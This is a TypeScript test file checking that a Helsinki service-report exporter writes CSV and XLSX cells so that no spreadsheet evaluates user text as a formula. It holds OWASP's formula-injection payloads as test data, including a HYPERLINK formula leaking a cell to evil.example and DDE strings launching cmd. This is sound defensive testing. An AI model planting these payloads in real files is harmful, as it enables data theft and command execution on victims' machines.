// Spreadsheet formula injection (OWASP, "CSV Injection"): every text a user or a file can set that
// reaches a CSV or an XLSX is written so that no spreadsheet evaluates it, while numbers stay
// numbers. The CSV cell rule (data/csv.ts) at random and on OWASP's examples; a service set's CSV
// read back unchanged; the CLI's tables; and a whole report (CSV and XLSX) on the real central
// Helsinki inputs with service points named like formulas, opened by csv-parse, ExcelJS and JSZip.
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { csvText, csvTextRead } from "../../data/csv.ts";
import { parseServicePointsCsv, servicePointsCsv } from "../../data/services/index.ts";
import { renderReport, type ReportModel } from "../../data/export/index.ts";
import { csvLine } from "../../server/cli/output.ts";
import { reportModel } from "../../server/cli/report.ts";
import { scratchDir } from "../fixtures/osm.ts";
import { EXAMPLE_SERVICES, REPORT_DATE, helsinkiOptions } from "../fixtures/report.ts";
import { fuzzParams } from "../fixtures/fuzz.ts";

/** OWASP's examples, and the other starts a spreadsheet takes for a formula. */
const HOSTILE = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1"];
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
/** What a spreadsheet would evaluate: a cell's text starting like a formula that is not a plain number. */
const live = (cell: string) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell);

describe("a CSV text cell (data/csv.ts)", () => {
  it("makes OWASP's examples inert with a leading ', quoted; leaves numbers and ordinary text alone", () => {
    expect(csvText("=1+1")).toBe(`"'=1+1"`);
    expect(csvText("@SUM(1+1)")).toBe(`"'@SUM(1+1)"`);
    expect(csvText("\t=1+1")).toBe(`"'\t=1+1"`);
    for (const n of ["-3.5", "+358", "-0", "1e-3", "091"]) expect(csvText(n)).toBe(n);
    expect(csvText("Kampin terveysasema")).toBe("Kampin terveysasema");
    expect(csvText("Helsinki, keskusta")).toBe(`"Helsinki, keskusta"`);
    expect(csvText("–")).toBe("–");
    expect(csvLine(["=1+1", -2.5, null, "x"])).toBe(`"'=1+1",-2.5,,x\n`);
  });

  it("at random: read back by csv-parse, no cell is live and the text comes back as it was", () => {
    const text = fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ",", ";", "1", ".", "e", "a", " ", "ä") , maxLength: 12 });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), fc.constantFrom(",", ";"), (cells, delimiter: "," | ";") => {
        const [row] = parse(cells.map((c) => csvText(c, delimiter)).join(delimiter) + "\n", { relax_quotes: false, delimiter }) as string[][];
        expect(row).toHaveLength(cells.length);
        row.forEach((c, i) => {
          expect(live(c), JSON.stringify(c)).toBe(false);
          expect(csvTextRead(c)).toBe(cells[i]);
        });
      }),
      fuzzParams<[string[], "," | ";"]>([[HOSTILE, ","], [HOSTILE, ";"]]),
    );
  });

  it("a service set named like formulas goes out inert and reads back unchanged", () => {
    const points = parseServicePointsCsv(readFileSync(EXAMPLE_SERVICES, "utf8")).map((p, i) => ({ ...p, name: { fi: HOSTILE[i % HOSTILE.length].trim() || "x", sv: HOSTILE[(i + 1) % HOSTILE.length].trim() || "x" } }));
    const csv = servicePointsCsv(points);
    const rows = parse(csv) as string[][];
    for (const row of rows) for (const c of row) expect(live(c), c).toBe(false);
    expect(parseServicePointsCsv(csv)).toEqual(points);
  });
});

describe("a report whose service points are named like formulas (central Helsinki)", () => {
  let model: ReportModel;
  let names: string[];
  beforeAll(async () => {
    // The example set with each point's Finnish and Swedish name replaced by an attack.
    const lines = readFileSync(EXAMPLE_SERVICES, "utf8").trim().split("\n");
    const hostile = [lines[0], ...lines.slice(1).map((l, i) => {
      const f = l.split(",");
      f[1] = csvText(HOSTILE[i % HOSTILE.length].trim());
      f[2] = csvText(HOSTILE[(i + 3) % HOSTILE.length].trim());
      return f.join(",");
    })].join("\n");
    const file = join(scratchDir(), "formula-services.csv");
    writeFileSync(file, hostile + "\n");
    model = (await reportModel(helsinkiOptions({ services: file }), REPORT_DATE)).model;
    names = model.geometry.points.map((p) => p.name.fi); // a Finnish report names points in Finnish
  }, 120_000);

  it("has the attacks as names (so the test tests something)", () => {
    expect(names.filter(live).length).toBeGreaterThanOrEqual(2);
  });

  it("CSV: no cell a spreadsheet would evaluate, and every name there with its inert mark", async () => {
    const csv = Buffer.from(await renderReport(model, "csv", "fi")).toString("utf8");
    const rows = parse(csv, { bom: true, relax_column_count: true }) as string[][];
    const cells = rows.flat();
    expect(cells.filter(live)).toEqual([]);
    for (const n of names.filter(live)) expect(cells).toContain(`'${n}`);
  });

  it("XLSX: the names are text cells (no formula anywhere), read back as written; numbers stay numbers", async () => {
    const bytes = await renderReport(model, "xlsx", "fi");
    const zip = await JSZip.loadAsync(bytes);
    const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
    expect(sheets.length).toBeGreaterThan(3);
    for (const s of sheets) expect(await zip.file(s)!.async("string")).not.toMatch(/<f[ >]/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const text: string[] = [];
    let numbers = 0;
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => {
      expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
      if (typeof c.value === "string") text.push(c.value);
      if (typeof c.value === "number") numbers++;
    })));
    for (const n of names.filter(live)) expect(text).toContain(n);
    expect(numbers).toBeGreaterThan(50);
  });
});
